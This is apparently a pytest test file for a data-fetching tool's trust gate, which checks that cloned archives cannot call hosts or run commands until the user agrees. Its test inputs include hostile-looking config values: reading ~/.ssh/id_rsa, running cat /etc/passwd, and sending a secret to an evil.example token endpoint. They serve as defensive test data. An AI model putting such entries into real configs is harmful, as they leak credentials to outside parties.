"""An archive from elsewhere does nothing by itself."""

import json
import os
import stat
import subprocess
import sys
from contextlib import closing

import pytest

from tests.server import Server, json_reply


@pytest.fixture
def api():
    with Server(lambda _: json_reply([{"id": 1}])) as server:
        yield server


def describe(folder, api, *, more="", auth='type = "bearer"\ntoken = "{secrets.token}"', stream=""):
    (folder / "sources/demo.toml").write_text(
        'format = 1\nsource = "demo"\n[secrets]\ntoken = "env:DEMO_TOKEN"\n'
        f'{more}[client]\nbase_url = "{api.url}"\n[pacing]\nmin_interval = "1ms"\n[auth]\n{auth}\n'
        f'[streams.items]\nkind = "snapshot"\npath = "/items"\n{stream}\n'
    )


def git(folder, *words):
    named = ("-c", "user.name=n", "-c", "user.email=e@example.org")
    subprocess.run(["git", *named, *words], cwd=folder, check=True, capture_output=True)


@pytest.fixture
def made(person, api, monkeypatch):
    """An archive that was made here."""
    monkeypatch.setenv("DEMO_TOKEN", "token-of-a-user")
    person.types("init", "made")
    folder = person.folder / "made"
    describe(folder, api)
    git(folder, "add", "-A")
    git(folder, "commit", "-m", "Describe a source")
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def clone(person, made, monkeypatch):
    """The same archive, cloned."""
    folder = person.folder / "clone"
    git(person.folder, "clone", "-q", str(made), str(folder))
    monkeypatch.chdir(folder)
    return folder


def test_an_archive_made_here_is_trusted_with_the_edits_made_here(person, made, api):
    person.types("fetch")
    describe(made, api, more='other = "env:OTHER"\n[vars]\nx = "y"\n')

    assert "was made here and is trusted" in person.types("trust")


def test_a_clone_is_not_asked_and_says_so(person, clone, api):
    person.types("fetch", code=3)

    assert f"you have not agreed that it asks {api.url}" in person.err
    assert "snap trust" in person.err
    assert api.seen == []


def test_a_trial_in_a_clone_is_refused(person, clone, api):
    person.types("try", "demo/items", code=3)

    assert "snap trust" in person.err
    assert api.seen == []


def test_what_a_clone_would_do_is_shown_and_agreed_to_once(person, clone, api):
    shown = person.types("trust", "--yes")
    person.types("fetch")

    assert f"asks {api.url}" in shown
    assert "reads env:DEMO_TOKEN (the secret 'token')" in shown
    assert len(api.seen) == 1
    assert "you have agreed" in person.types("trust")


def test_without_anybody_to_ask_nothing_is_agreed_to(person, clone, monkeypatch):
    monkeypatch.setattr(sys, "stdin", open(os.devnull))  # noqa: PTH123, SIM115

    with closing(sys.stdin):
        person.types("trust", code=3)
        person.types("fetch", code=3)

    assert "snap trust" in person.err


@pytest.mark.parametrize(("answer", "code"), [(b"y\n", 0), (b"n\n", 3)])
def test_a_person_is_asked(person, clone, answer, code):
    ours, theirs = os.openpty()
    os.write(ours, answer)

    done = subprocess.run(
        [sys.executable, "-m", "snapshotter", "trust"], stdin=theirs, capture_output=True, check=False
    )

    os.close(ours)
    os.close(theirs)
    assert done.returncode == code, done.stderr
    assert b"Do you agree?" in done.stderr
    person.types("fetch", code=code)


@pytest.mark.parametrize(
    ("change", "new"),
    [
        ({"more": 'other = "file:~/.ssh/id_rsa"\n'}, "new: reads file:~/.ssh/id_rsa (the secret 'other')"),
        ({"more": 'other = "command:cat /etc/passwd"\n'}, "new: runs cat /etc/passwd (gives the secret 'other')"),
        ({"auth": 'type = "command"\nargv = ["sh", "-c", "id >&2"]'}, "new: runs sh -c 'id >&2' (gives the token)"),
        ({"stream": 'method = "POST"\n'}, "new: sends POST /items"),
        (
            {
                "auth": 'type = "oauth2"\ntoken_url = "https://evil.example/token"\nclient_id = "me"\n'
                'client_secret = "{secrets.token}"\ngrant_type = "client_credentials"'
            },
            "new: asks https://evil.example for tokens",
        ),
    ],
    ids=["secret", "command", "token command", "method", "token endpoint"],
)
def test_what_changes_later_is_asked_about_again_and_named(person, clone, api, change, new):
    person.types("trust", "--yes")
    describe(clone, api, **change)

    person.types("fetch", code=3)
    shown = person.types("trust", code=3)

    assert api.seen == []
    assert new in shown
    assert f"  asks {api.url}" in shown


def test_a_change_that_endangers_nobody_is_not_asked_about(person, clone, api):
    person.types("trust", "--yes")
    describe(clone, api, stream='id = "id"\nevery = "2d"\n')

    person.types("fetch")

    assert len(api.seen) == 1


def test_another_clone_in_the_place_of_a_trusted_one_is_not_trusted(person, clone, made):
    person.types("trust", "--yes")
    subprocess.run(["rm", "-r", str(clone)], check=True)
    git(person.folder, "clone", "-q", str(made), str(clone))

    person.types("-C", str(clone), "fetch", code=3)


def test_a_command_of_a_clone_runs_only_after_agreement(person, clone, api):
    ran = person.folder / "ran"
    describe(clone, api, auth=f'type = "command"\nargv = ["sh", "-c", "touch {ran}; echo a-token-of-a-command"]')
    for words in (["check"], ["limits"], ["fetch", "--dry-run"], ["status"]):
        person.types(*words)
    person.types("fetch", code=3)
    assert not ran.exists()

    person.types("trust", "--yes")
    person.types("fetch")

    assert ran.exists()
    assert api.seen[0].header("authorization") == "Bearer a-token-of-a-command"


def test_a_secret_of_a_command_is_got_in_an_archive_made_here(person, made, api):
    describe(
        made, api, more='extra = "command:echo from-a-command"\n', stream='headers = { X-Key = "{secrets.extra}" }'
    )

    person.types("check")
    person.types("fetch")

    assert api.seen[0].header("x-key") == "from-a-command"


def test_a_script_gets_the_facts_as_json(person, clone, api):
    told = json.loads(person.types("trust", "--json", code=3))

    (file,) = told["files"]
    assert file["key"] == "demo"
    assert {"does": "asks", "what": api.url} in file["new"]


def test_the_end_of_a_long_command_does_not_hide(person, clone, api):
    describe(clone, api, more=f'other = "command:true {"x" * 5000}; evil"\n')

    assert "evil" in person.types("trust", code=3)


def test_a_file_with_a_mistake_cannot_be_agreed_to(person, clone, api):
    describe(clone, api, stream="no_such_key = 1")

    assert "unknown key 'no_such_key'" in person.types("trust", code=2)


def test_what_is_remembered_is_for_the_user_only(person, clone):
    person.types("trust", "--yes")

    for file in (person.folder / "state/snap/trust").glob("*.json"):
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert "token-of-a-user" not in "".join(p.read_text() for p in (person.folder / "state/snap/trust").glob("*.json"))
